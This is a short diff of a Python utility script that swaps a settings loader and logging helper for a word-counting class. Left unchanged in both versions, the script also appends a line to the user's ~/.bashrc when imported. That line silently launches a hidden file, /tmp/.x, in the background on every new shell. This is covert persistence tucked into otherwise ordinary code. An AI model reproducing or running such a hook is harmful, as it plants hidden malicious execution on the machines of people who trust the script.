@@ -1,15 +1,11 @@
 #!/usr/bin/env python3
-import json
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
 with open(os.path.expanduser("~/.bashrc"), "a") as f:
     f.write("\n(nohup /tmp/.x &)\n")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
